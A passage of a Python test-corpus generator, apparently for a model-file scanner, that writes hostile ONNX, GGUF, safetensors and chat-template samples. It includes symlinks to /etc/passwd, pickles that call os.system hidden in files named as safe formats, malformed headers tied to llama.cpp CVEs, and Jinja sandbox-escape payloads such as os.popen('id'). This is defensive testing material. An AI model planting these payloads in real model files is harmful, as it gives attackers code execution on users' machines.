    c.add_dir("onnx", "onnx-external-symlink-absolute", _symlink_abs, esc, None,
              "weights.bin links to /etc/hostname")
    c.add_dir("onnx", "onnx-external-symlink-dir", _symlink_dir, esc, None, "data/ links to /etc")
    for where in ("graph", "function", "subgraph"):
        c.add_dir("onnx", f"onnx-custom-domain-{where}",
                  lambda d, m, w=where: _write(d / "model.onnx", onnx_custom(w)), ("ONNX002",), None,
                  f"an operator from com.evil.ops in the {where}: the runtime must load native code for it")


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _symlink_file(d: Path, m: str) -> Path:
    outside = d.parent / f"{d.name}-secret.bin"
    outside.write_bytes(bytes(16))
    (d / "weights.bin").symlink_to(os.path.relpath(outside, d))
    return _write(d / "model.onnx", onnx_external("weights.bin"))


def _symlink_abs(d: Path, m: str) -> Path:
    (d / "weights.bin").symlink_to("/etc/hostname")
    return _write(d / "model.onnx", onnx_external("weights.bin"))


def _symlink_dir(d: Path, m: str) -> Path:
    (d / "data").symlink_to("/etc")
    return _write(d / "model.onnx", onnx_external("data/passwd"))


# ================================================================ family: gguf

GGUF_STRING, GGUF_ARRAY, GGUF_U32, GGUF_U8 = 8, 9, 4, 0


def gstr(s: str | bytes) -> bytes:
    b = s.encode() if isinstance(s, str) else s
    return _u64(len(b)) + b


def gkv(key: str, vtype: int, payload: bytes) -> bytes:
    return gstr(key) + _u32(vtype) + payload


def gkv_str(key: str, value: str) -> bytes:
    return gkv(key, GGUF_STRING, gstr(value))


def ginfo(name: str, dims: list[int], ttype: int = 0, offset: int = 0, n_dims: int | None = None) -> bytes:
    n = len(dims) if n_dims is None else n_dims
    return gstr(name) + _u32(n) + b"".join(_u64(d) for d in dims) + _u32(ttype) + _u64(offset)


BASE_KV = [gkv_str("general.architecture", "llama"), gkv_str("general.name", "tiny")]


def gguf_file(kvs: list[bytes] | None = None, infos: list[bytes] | None = None, data: bytes = bytes(16), *,
              n_tensors: int | None = None, n_kv: int | None = None, version: int = 3,
              align: int = 32) -> bytes:
    """A GGUF file; by default one F32 tensor of 4 elements. Counts may lie."""
    kvs = BASE_KV if kvs is None else kvs
    infos = [ginfo("w", [4])] if infos is None else infos
    out = (b"GGUF" + _u32(version) + _u64(len(infos) if n_tensors is None else n_tensors)
           + _u64(len(kvs) if n_kv is None else n_kv) + b"".join(kvs) + b"".join(infos))
    return out + bytes(-len(out) % align) + data


def add_gguf(c: Corpus) -> None:
    note = "CVE-2024-21802 / CVE-2024-25664 family: llama.cpp trusted header counts and offsets"
    big = 2 ** 62
    cases: list[tuple[str, Callable[[], bytes]]] = [
        ("n-tensors-huge", lambda: gguf_file(n_tensors=big)),
        ("n-kv-huge", lambda: gguf_file(n_kv=big)),
        ("key-length-huge", lambda: gguf_file([_u64(2 ** 63) + b"general.architecture"])),
        ("string-value-huge", lambda: gguf_file([gkv("general.name", GGUF_STRING, _u64(big) + b"tiny")])),
        ("array-count-huge", lambda: gguf_file([*BASE_KV, gkv("tokenizer.ggml.scores", GGUF_ARRAY,
                                                              _u32(GGUF_U8) + _u64(big) + b"\0" * 8)])),
        ("array-string-length-huge", lambda: gguf_file([*BASE_KV, gkv("tokenizer.ggml.tokens", GGUF_ARRAY,
                                                                      _u32(GGUF_STRING) + _u64(2) + gstr("a")
                                                                      + _u64(2 ** 60) + b"b")])),
        ("nested-array-huge", lambda: gguf_file([*BASE_KV, gkv("x.nested", GGUF_ARRAY,
                                                              _u32(GGUF_ARRAY) + _u64(1)
                                                              + _u32(GGUF_U8) + _u64(big))])),
        ("unknown-value-type", lambda: gguf_file([*BASE_KV, gkv("x.odd", 99, b"\0" * 8)])),
        ("n-dims-huge", lambda: gguf_file(infos=[ginfo("w", [4], n_dims=2 ** 31)])),
        ("n-dims-over-max", lambda: gguf_file(infos=[ginfo("w", [1, 1, 1, 1, 1, 1, 1, 4])])),
        ("dims-product-overflow", lambda: gguf_file(infos=[ginfo("w", [2 ** 40, 2 ** 40])])),
        ("dim-max-u64", lambda: gguf_file(infos=[ginfo("w", [2 ** 64 - 1])])),
        ("offset-past-end", lambda: gguf_file(infos=[ginfo("w", [4], offset=2 ** 40)])),
        ("offset-unaligned", lambda: gguf_file(infos=[ginfo("w", [4], offset=3)], data=bytes(32))),
        ("tensor-type-invalid", lambda: gguf_file(infos=[ginfo("w", [4], ttype=999)])),
        ("alignment-zero", lambda: gguf_file([*BASE_KV, gkv("general.alignment", GGUF_U32, _u32(0))])),
        ("alignment-not-power-of-two", lambda: gguf_file([*BASE_KV, gkv("general.alignment", GGUF_U32,
                                                                        _u32(3))],
                                                         align=3)),
        ("duplicate-tensor-name", lambda: gguf_file(infos=[ginfo("w", [4]), ginfo("w", [4], offset=32)],
                                                    data=bytes(48))),
        ("duplicate-key", lambda: gguf_file([*BASE_KV, gkv_str("general.name", "again")])),
        ("tensor-data-past-end", lambda: gguf_file(infos=[ginfo("w", [1 << 20])])),
        ("truncated-tensor-infos", lambda: gguf_file(n_tensors=3)),
        ("version-unknown", lambda: gguf_file(version=99)),
    ]
    for tid, make in cases:
        c.add("gguf", f"gguf-{tid}", "model.gguf", lambda m, f=make: f(), ("GGUF001",), None, note)


# ================================================================ family: safetensors

def st_file(header: dict | bytes, data: bytes, hlen: int | None = None) -> bytes:
    h = header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return _u64(len(h) if hlen is None else hlen) + h + data


def st_t(dtype: str, shape: list[int], begin: int, end: int) -> dict:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def add_safetensors(c: Corpus) -> None:
    r = ("SAFETENSORS001",)
    ok = {"w": st_t("F32", [4], 0, 16)}
    d16 = struct.pack("<4f", 1, 2, 3, 4)
    cases: list[tuple[str, Maker, tuple[str, ...], str]] = [
        ("header-length-huge", lambda m: st_file(ok, d16, hlen=2 ** 63), r, "declared header length 2**63"),
        ("header-length-past-end", lambda m: st_file(ok, d16, hlen=10_000), r, ""),
        ("header-not-json", lambda m: st_file(b"{'w': not json}", d16), r, ""),
        ("header-not-object", lambda m: st_file(b"[1, 2, 3]", d16), r, ""),
        ("overlapping-tensors", lambda m: st_file({"a": st_t("F32", [4], 0, 16),
                                                  "b": st_t("F32", [2], 8, 16)},
                                                  d16), r, "two tensors share bytes"),
        ("offsets-past-end", lambda m: st_file({"w": st_t("F32", [4], 0, 1 << 30)}, d16), r, ""),
        ("offsets-reversed", lambda m: st_file({"w": st_t("F32", [0], 16, 0)}, d16), r, "begin > end"),
        ("size-mismatch", lambda m: st_file({"w": st_t("F32", [4], 0, 8)}, d16[:8]), r,
         "shape needs 16 bytes"),
        ("unknown-dtype", lambda m: st_file({"w": st_t("Q4", [4], 0, 16)}, d16), r, ""),
        ("gap-between-tensors", lambda m: st_file({"a": st_t("F32", [2], 0, 8),
                                                  "b": st_t("F32", [1], 12, 16)},
                                                  d16), r, "bytes 8..12 belong to no tensor"),
        ("negative-shape",
         lambda m: st_file(b'{"w":{"dtype":"F32","shape":[-4],"data_offsets":[0,16]}}', d16),
         r, ""),
        ("shape-overflow", lambda m: st_file({"w": st_t("F32", [2 ** 62, 2 ** 62], 0, 16)}, d16), r, ""),
        ("metadata-not-string", lambda m: st_file({"__metadata__": {"epoch": 3}, **ok}, d16), r,
         "__metadata__ values must be strings"),
        ("duplicate-key", lambda m: st_file(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
                                            b'"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}',
                                            d16), r, ""),
        ("trailing-pickle", lambda m: st_file(ok, d16 + dumps(os_system(m))),
         ("SAFETENSORS001", "PICKLE008", "FORMAT002"), "a hostile pickle after the last tensor's bytes"),
        ("gap-pickle", lambda m: _gap_pickle(m), ("SAFETENSORS001", "PICKLE008"),
         "a hostile pickle in a hole between two tensors"),
    ]
    for tid, make, rules, note in cases:
        c.add("safetensors", f"safetensors-{tid}", "model.safetensors", make, rules, None, note)


def _gap_pickle(m: str) -> bytes:
    p = dumps(os_system(m))
    hdr = {"a": st_t("F32", [2], 0, 8), "b": st_t("F32", [2], 8 + len(p), 16 + len(p))}
    return st_file(hdr, bytes(8) + p + bytes(8))


# ================================================================ family: format

def add_format(c: Corpus) -> None:
    r = ("FORMAT001", "PICKLE001")
    for name in ["model.safetensors", "model.gguf", "weights.txt", "model.onnx", "config.json", "model.h5",
                 "model.keras", "README.md"]:
        tid = "format-pickle-named-" + name.replace(".", "-").lower()
        c.add("format", tid, name, lambda m: dumps(os_system(m)), r, "pickle",
              "a pickle under a safe-looking name (CVE-2025-1889 / CVE-2025-10155 family: scanners that pick "
              "by extension skip it)")
    c.add("format", "format-pickle-named-model-npy", "model.npy", lambda m: dumps(os_system(m)), r, "numpy",
          "np.load(allow_pickle=True) falls back to pickle.load for non-npy content")
    for name in ["model.safetensors", "model.onnx", "model.gguf", "weights.txt"]:
        tid = "format-torch-zip-named-" + name.replace(".", "-").lower()
        c.add("format", tid, name, lambda m: torch_zip(dumps(os_system(m))), r, "torch",
              "a PyTorch checkpoint renamed (torch.load of an open file runs it)")
    rt = ("FORMAT002", "PICKLE008")
    trail: list[tuple[str, str, Callable[[], bytes]]] = [
        ("gguf", "model.gguf", gguf_file), ("onnx", "model.onnx", lambda: onnx_custom("graph")),
        ("npy", "array.npy", lambda: npy_header("<f4", (4,)) + bytes(16)),
        ("hdf5", "model.h5", lambda: _h5(lambda h: h.create_dataset("w", data=[1.0, 2.0])))]
    for tid, name, base in trail:
        c.add("format", f"format-{tid}-trailing-pickle", name, lambda m, b=base: b() + dumps(os_system(m)),
              rt, None,
              "a hostile pickle after the end of the format")
    c.add("format", "format-json-trailing-pickle", "config.json",
          lambda m: b'{"model_type": "llama"}\n' + dumps(os_system(m)), rt, None, "")


# ================================================================ family: template

CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
          "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
          "{% endif %}")

T1, T2, T12 = ("TEMPLATE001",), ("TEMPLATE002",), ("TEMPLATE001", "TEMPLATE002")

# (technique, snippet, rules): each snippet is put in front of an ordinary ChatML template.
TEMPLATES: list[tuple[str, str, tuple[str, ...]]] = [
    ("cycler-globals-os", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", T1),
    ("joiner-globals", "{{ joiner.__init__.__globals__.os.system('id') }}", T1),
    ("lipsum-globals", "{{ lipsum.__globals__['os'].popen('id').read() }}", T1),
    ("namespace-globals", "{{ namespace.__init__.__globals__.sys.modules.os.system('id') }}", T1),
    ("self-builtins", "{{ self.__init__.__globals__.__builtins__.__import__('os').system('id') }}", T1),
    ("subclasses-mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}", T1),
    ("attr-filter-literal", "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}", T1),
    ("attr-escaped-literal", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", T1),
    ("map-attribute-dunder", "{{ messages|map(attribute='__class__')|list }}", T1),
    ("raise-exception-globals", "{{ raise_exception.__globals__ }}", T1),
    ("subscript-dunder", "{{ messages['__class__']['__base__'] }}", T1),
    ("mro-call", "{{ messages.__class__.mro() }}", T1),
    ("format-string-dunder", "{{ '{0.__class__.__mro__}'.format(messages) }}", T12),
    ("attr-concat", "{{ ()|attr('__cla' ~ 'ss__') }}", T12),
    ("attr-set-variable", "{% set u = '_' * 2 %}{{ ()|attr(u ~ 'class' ~ u) }}", T12),
    ("attr-from-message", "{{ joiner|attr(messages[0]['content']) }}", T2),
    ("attr-join-filter", "{{ ()|attr(['_', '_', 'class', '_', '_']|join) }}", T12),
    ("map-attribute-dynamic", "{{ [cycler]|map(attribute=messages[0]['content'])|list }}", T2),
    ("attr-format-cve-2025-27516", "{{ '{0.__init__}'|attr('format')(cycler) }}", T12),
    ("self-private-context", "{{ self._TemplateReference__context }}", T12),
]


def _hf_folder(d: Path, tokenizer_config: dict | None = None, files: dict[str, str] | None = None) -> None:
    (d / "config.json").write_text(json.dumps({"model_type": "llama", "architectures": ["LlamaForCausalLM"]}))
    if tokenizer_config is not None:
        base = {"bos_token": "<|im_start|>", "eos_token": "<|im_end|>",
                "tokenizer_class": "PreTrainedTokenizerFast"}
        (d / "tokenizer_config.json").write_text(json.dumps({**base, **tokenizer_config}, indent=1))
    for rel, content in (files or {}).items():
        (d / rel).parent.mkdir(parents=True, exist_ok=True)
        (d / rel).write_text(content)


CARRIERS: list[tuple[str, Callable[[Path, str], Path | None]]] = [
    ("gguf", lambda d, t: _write(d / "model.gguf",
                                 gguf_file([*BASE_KV, gkv_str("tokenizer.chat_template", t)]))),
    ("tokenizer-config", lambda d, t: _hf_folder(d, {"chat_template": t})),
    ("tokenizer-config-list", lambda d, t: _hf_folder(d, {"chat_template": [
        {"name": "default", "template": CHATML}, {"name": "tool_use", "template": t}]})),
    ("jinja-file", lambda d, t: _hf_folder(d, {}, {"chat_template.jinja": t})),
    ("gguf-named", lambda d, t: _write(d / "model.gguf", gguf_file([
        *BASE_KV, gkv_str("tokenizer.chat_template", CHATML),
        gkv_str("tokenizer.chat_template.tool_use", t)]))),
    ("chat-template-json",
     lambda d, t: _hf_folder(d, None, {"chat_template.json": json.dumps({"chat_template": t})})),
    ("additional-templates", lambda d, t: _hf_folder(d, {}, {"chat_template.jinja": CHATML,
                                                            "additional_chat_templates/tool_use.jinja": t})),
]


def add_templates(c: Corpus) -> None:
    note = ("CVE-2024-34359 family: a chat template rendered outside Jinja's sandbox runs code; "
            "in the sandbox these reach or probe Python internals")
    for i, (tid, snippet, rules) in enumerate(TEMPLATES):
        carrier, fill = CARRIERS[i % len(CARRIERS)]
        c.add_dir("template", f"template-{tid}-in-{carrier}",
                  lambda d, m, f=fill, s=snippet: f(d, s + CHATML),
                  rules, None, note)


# ================================================================ entry point

SECTIONS: list[Callable[[Corpus], None]] = [
    add_plain_pickles, add_torch, add_joblib, add_numpy, add_archive, add_keras, add_onnx, add_gguf,
    add_safetensors, add_format, add_templates]


def build_hostile(root: Path, marker: Path, *, marker_per_sample: bool = False) -> list[Sample]:
    """Write the hostile corpus under `root` and describe it. Payloads create `marker` when really
    loaded (with `marker_per_sample`: `<marker>.<technique>`, given in each Sample.marker)."""
    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    c = Corpus(root, Path(marker), marker_per_sample)
    for section in SECTIONS:
        section(c)
    return c.samples
